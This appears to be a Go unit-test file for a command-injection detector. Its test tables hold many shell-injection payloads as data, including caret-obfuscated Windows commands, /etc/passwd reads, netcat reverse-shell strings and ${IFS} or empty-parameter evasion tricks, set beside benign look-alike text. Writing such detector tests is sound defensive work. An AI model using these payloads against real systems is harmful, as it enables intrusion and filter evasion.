package scan

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestCommandWordSets: the word commands that need less than an argument
// are word commands.
func TestCommandWordSets(t *testing.T) {
	for _, set := range []*foldSet{aloneCommands, numberCommands, netTools, interpreters, netWord} {
		for _, w := range set.slots {
			if w != "" {
				assert.True(t, wordCommands.hasFold(w), w)
			}
		}
	}
}

// TestCommandInjectionLinear: a run of metacharacters is read once. Each
// was followed by a walk over the lead of blanks, quotes and more
// metacharacters after it, the rest of the run: 100 KB of ";" took
// seven seconds, a body of them minutes.
func TestCommandInjectionLinear(t *testing.T) {
	const n = 256 << 10
	for _, s := range []string{
		strings.Repeat(";", n), strings.Repeat("|", n), strings.Repeat("&", n), strings.Repeat("`", n),
		strings.Repeat("\n", n), strings.Repeat("\r", n), strings.Repeat("$(", n/2), strings.Repeat(`{"$`, n/3),
		strings.Repeat("; ", n/2), strings.Repeat("${IFS}", n/6), strings.Repeat(";$1", n/3),
	} {
		assert.Equal(t, None, String(s), s[:8]) // not timed (unit tests assert no times): quadratic, this test takes minutes
	}
	assert.Equal(t, CommandInjection, String(strings.Repeat(";", n)+"id"))
	assert.Equal(t, CommandInjection, String(strings.Repeat("$(", n/2)+"id"))
	assert.Equal(t, CommandInjection, String(strings.Repeat(";$IFS", n/5)+"whoami"))
}

// TestCommandThroughCarets: cmd.exe drops a ^ (its escape) as a Unix
// shell drops a backslash, so w^h^o^a^m^i is whoami to it; the word is
// read again without them, as without quotes and backslashes. Text with
// a ^ (powers, markdown footnotes) is not a command for that.
func TestCommandThroughCarets(t *testing.T) {
	for v, want := range map[string]Class{
		"& w^h^o^a^m^i": CommandInjection, "| who^ami": CommandInjection, "& ^whoami": CommandInjection,
		"& c^m^d /c dir": CommandInjection, "&& ip^config /all": CommandInjection, "| n^e^t user": CommandInjection,
		"& p^o^w^e^r^s^h^e^l^l -c x": CommandInjection, "& x.e^x^e": CommandInjection,
		"x & y^2": None, "E = mc^2 | Energy": None, "2^10 & 2^20": None, "Footnote[^1] & Notes": None,
		"Caps | Shift^2": None, "a & b^c^d": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
}

// TestCommandAfterBang: a shell's ! (a pipeline's negation) leads to the
// command it negates, as a blank or a ( does: "x; ! whoami" and "x|| !id"
// run whoami and id in sh, bash and zsh. The lead stopped at the !, and
// the command after it was not seen. Text with a ! is no command for
// that.
func TestCommandAfterBang(t *testing.T) {
	for v, want := range map[string]Class{
		"x; ! whoami": CommandInjection, "x;! whoami": CommandInjection, "x || ! id": CommandInjection,
		"x && ! cat /etc/passwd": CommandInjection, "`! uname -a`": CommandInjection, "$(! nc -e /bin/sh x 1)": CommandInjection,
		"Sale! & More!": None, "Wow!! | Great": None, "Yes & !important": None, "Shoes & ! More": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	assert.Equal(t, None, String(strings.Repeat(";!", 128<<10)), "a run of them is read once")
}

// TestCommandContractionIsAWord: who's, who'd, who'll after a ;, a |, a &
// or a line break are English, not the command who: to a shell the quote
// goes on into the word (whos…) or is never closed, and who does not run.
// A command that tells something alone (who, id, w) took any quote with a
// letter after it for an argument, so that "Knock knock\nwho's there?"
// and "Tickets & who's coming" were command injection.
func TestCommandContractionIsAWord(t *testing.T) {
	for v, want := range map[string]Class{
		"Knock knock\nwho's there?": None, "Tickets & who's coming": None, "Jokes; who'd have thought": None,
		"Final | who'll win?": None, "Thanks!\nwho've you asked": None, "Fans & who're they": None,
		"Notes; id's format": None, "Top | w's list": None,
		"; w'h'o'a'm'i": CommandInjection, "; w'h'o'am'i": CommandInjection, "; who'": CommandInjection,
		"; who''": CommandInjection, "; 'who'": CommandInjection, "; id'x'": CommandInjection, "; who\"s\"": CommandInjection,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
}

// TestCommandAfterEmptyParameters: $@ and $* (all the positional
// parameters, none in a command string) and ${1} are nothing to the
// shell, as $1 is, so ";$@whoami" and ";\"$@\"whoami" run whoami. The
// lead skipped $1 and $IFS only, and the command after the others was not
// seen.
func TestCommandAfterEmptyParameters(t *testing.T) {
	for v, want := range map[string]Class{
		";$@whoami": CommandInjection, ";$*whoami": CommandInjection, ";\"$@\"whoami": CommandInjection,
		";${1}whoami": CommandInjection, ";${@}id": CommandInjection, "|$*$@cat /etc/passwd": CommandInjection,
		"$($@id)":        CommandInjection,
		"Wash & Cut $30": None, "Sale; $* conditions apply": None, "Only {1} left & more": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	assert.Equal(t, None, String(strings.Repeat(";$@", 100<<10)), "a run of them is read once")
	assert.Equal(t, None, String(strings.Repeat(";${1}", 60<<10)), "a run of them is read once")
}

// TestCommandAfterEmptyExpansions: a shell expands ${10} (the tenth
// positional parameter), ${!}, $!, ${-} and $- (dash's flags of a -c
// string), an unset variable (${x}, or $x before a blank or a quote) and
// a test that leaves nothing (${x+y}, ${x#a}, ${1:-}) to nothing, so
// the command after them runs: ";${10}whoami" runs whoami in dash and
// bash. And ${x:-whoami}, ${x=id} are their default, the command itself.
// The lead skipped $1, ${1}, $@, $* and $IFS only, and these passed.
// ${#}, $? and $$ are numbers: the word after them
// is another ("$10whoami" is 0whoami).
func TestCommandAfterEmptyExpansions(t *testing.T) {
	for v, want := range map[string]Class{
		";${10}whoami": CommandInjection, ";${99}id": CommandInjection, ";\"${10}\"whoami": CommandInjection,
		";${!}whoami": CommandInjection, ";$-whoami": CommandInjection, ";${-}whoami": CommandInjection,
		";${x}whoami": CommandInjection, ";$x whoami": CommandInjection, ";$x\"id\"": CommandInjection,
		";${x+y}whoami": CommandInjection, ";${x#a}whoami": CommandInjection, ";${1:-}whoami": CommandInjection,
		";${x:-whoami}": CommandInjection, ";${x-id}": CommandInjection, ";${x:=cat /etc/passwd}": CommandInjection,
		"a|${x:-/bin/sh}": CommandInjection, "$(${u}id)": CommandInjection, "&${IFS}${x}id": CommandInjection,
		";${x?}whoami": None, ";${#}whoami": None, ";$10whoami": None,
		"Hello ${name}; ${greeting} ${user}": None, "Order ${id} shipped": None, "Save $5 | $Money talks": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	for _, s := range []string{";${x:-", ";${x#", "${a", ";$x ", ";${10}", "${x+;"} {
		assert.Equal(t, None, String(strings.Repeat(s, 256<<10/len(s))), "a run of %q is read once", s)
	}
}

// TestCommandShellsOwnName: $0 and ${0} are the shell's own name (sh in
// a -c string, bash), so "; $0 -c id" and "echo id|${0}" run a shell;
// the lead skipped $0 as an empty parameter, and what followed it was
// read as the command. $0 counts with a shell's argument only, as the
// word commands do ("| $0 fee" is a price); "$0whoami" is shwhoami.
func TestCommandShellsOwnName(t *testing.T) {
	for v, want := range map[string]Class{
		";$0 -c id": CommandInjection, "|$0 -c 'id'": CommandInjection, "x|$0<<<id": CommandInjection,
		"echo id|${0}": CommandInjection, ";${0} -c id": CommandInjection, "$(${0}<x)": CommandInjection,
		"Basic | $0 fee": None, "Free shipping & $0 down": None, "Plans: Basic | $0/month": None, "Pay $0 | $0 fees": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
}

// TestCommandThroughGluedEmptyParameters: a shell drops $@, $*, $1, $-
// (dash), ${x} and the $ of $'…' inside a word as it drops quotes, so
// "wh$@oami" and "c${u}at /etc/x" run whoami and cat; the word was read
// again without quotes, backslashes and carets only, and a command whose
// first letters were no word command passed ("who$@ami" was found for
// who).
func TestCommandThroughGluedEmptyParameters(t *testing.T) {
	for v, want := range map[string]Class{
		"a;wh$@oami": CommandInjection, "a;wh${x}oami": CommandInjection, "a;ca${u}t /etc/x": CommandInjection,
		"a;n$@c -e /bin/sh 10.0.0.1 4444": CommandInjection, "a;wh$'o'ami": CommandInjection, "a;w$-hoami": CommandInjection,
		"a;wh${x:-}oami": CommandInjection, "|/bin/wh$@oami": CommandInjection,
		"a;wh$xoami": None, "a;wh${x:-y}oami": None, "x & US$5 fee": None, "R&D$1M budget": None, "a;who$": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	for _, s := range []string{";x$@", ";x${y}", ";$'", ";a$@b$@"} {
		assert.Equal(t, None, String(strings.Repeat(s, 256<<10/len(s))), "a run of %q is read once", s)
	}
}

// TestCommandAfterAssignmentOrRedirection: a shell reads variable
// assignments and redirections before a command's name, so ";x=1
// whoami", ";2>/dev/null id" and ";>x whoami" run the command (dash and
// bash); the lead stopped at them, and the command was not seen. After
// a &, name=value is a query string's pair and stays one.
func TestCommandAfterAssignmentOrRedirection(t *testing.T) {
	for v, want := range map[string]Class{
		"a;x=1 whoami": CommandInjection, "a;x=1 y=2 id": CommandInjection, "a|x= whoami": CommandInjection,
		"a;2>/dev/null whoami": CommandInjection, "a;>x whoami": CommandInjection, "a;> x whoami": CommandInjection,
		"a;<x cat /etc/passwd": CommandInjection, "a;2>&1 id": CommandInjection, "$(x=1 id)": CommandInjection,
		"Home > Shoes & More > Sale": None, "a=b&c=d": None, "x & a=5 more": None, "a; 2> x": None,
		"/search?ref=1&q=typography print \"with you\"&page=1": None, "a;$x=1 whoami": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	for _, s := range []string{";x=1 ", ";2>x ", "; > ", ";x=", "&   ", ";x=1&"} {
		assert.Equal(t, None, String(strings.Repeat(s, 256<<10/len(s))), "a run of %q is read once", s)
	}
}

// TestCommandExpansionAsItsOwnMetachar: a ${ no metacharacter leads to
// is a word's (a template's placeholder, a snippet's tab stop, a regex
// replacement), not a command's lead: "Found ${0} results" and "Hello
// ${name} SSH access granted" were flagged once ${0} became the shell's
// name and ${name} an unset variable the lead skips. A metacharacter
// before the ${ still leads through it.
func TestCommandExpansionAsItsOwnMetachar(t *testing.T) {
	for v, want := range map[string]Class{
		"Found ${0} results": None, "console.log(${0});": None, "Replace with ${0} in the output": None,
		"Hello ${name} SSH access granted": None, "${count} SSH keys were added to ${user}'s account": None,
		"${server} FTP credentials": None, "${SHELL:-sh}": None, "${x}whoami": None,
		"echo id|${0}": CommandInjection, ";${x}whoami": CommandInjection, ";${x:-whoami}": CommandInjection,
		"${IFS}cat${IFS}/etc/passwd": CommandInjection, "${1}whoami": CommandInjection, "$(${u}id)": CommandInjection,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
}

// TestCommandAfterUnsetVariablesInARow: two unset variables are nothing
// as one is: ";$x$y whoami" and ";$x${y}whoami" run whoami in dash and
// bash. The lead skipped $x before a blank or a quote only.
func TestCommandAfterUnsetVariablesInARow(t *testing.T) {
	for v, want := range map[string]Class{
		";$x$y whoami": CommandInjection, ";$x${y}whoami": CommandInjection, "|$a$b$c id": CommandInjection,
		"Save | $USD$5 fee": None, "a;$x$y": None,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	assert.Equal(t, None, String(strings.Repeat(";$x$y", 100<<10)), "a run of them is read once")
}

// TestCommandAfterMarkupNotRedirection: a line of an HTML body starts
// with a tag and a line of an e-mail reply with "> ", which a shell would
// read as redirections: since 8292c46 stepped over redirections, the
// word after them was read as the command, and "<p>Your SSH key is
// ready" and "> The SSH server is down" after a newline were flagged,
// as the parent did not. A redirection a payload writes still leads on.
func TestCommandAfterMarkupNotRedirection(t *testing.T) {
	for v, want := range map[string]Class{
		"Hi Bob,\n> The SSH key was rotated yesterday": None, "Thanks!\n\n> On Monday, Alice wrote:\n>> The SSH server is down": None,
		"<ul>\n<li>Configure SSH keys</li>\n</ul>": None, "<p>Hello</p>\n<p>Your SSH key is ready</p>": None,
		"Steps:\n<b>Note:</b> ssh is disabled": None, "a\n<br/> SSH": None, "a\r\n</p> SSH": None,
		";>x whoami": CommandInjection, ";> x whoami": CommandInjection, "\n>x whoami": CommandInjection,
		";<x cat /etc/passwd": CommandInjection, "\n2> x whoami": CommandInjection, ";2>/dev/null id": CommandInjection,
		"a\n<x whoami": CommandInjection,
	} {
		assert.Equal(t, want, String(v), "%q", v)
	}
	for _, s := range []string{"\n<p>", "\n> ", ";</a>"} {
		assert.Equal(t, None, String(strings.Repeat(s, 256<<10/len(s))), "a run of %q is read once", s)
	}
}
